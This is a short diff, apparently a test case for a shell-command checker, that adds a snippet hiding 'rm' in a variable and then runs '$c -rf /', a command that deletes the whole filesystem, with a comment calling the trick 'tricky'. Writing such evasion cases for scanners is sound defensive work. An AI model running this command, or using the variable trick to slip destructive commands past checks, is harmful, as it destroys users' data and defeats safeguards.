@@ -1,0 +1,3 @@
+# tricky: the command is in a variable
+c=rm
+$c -rf /
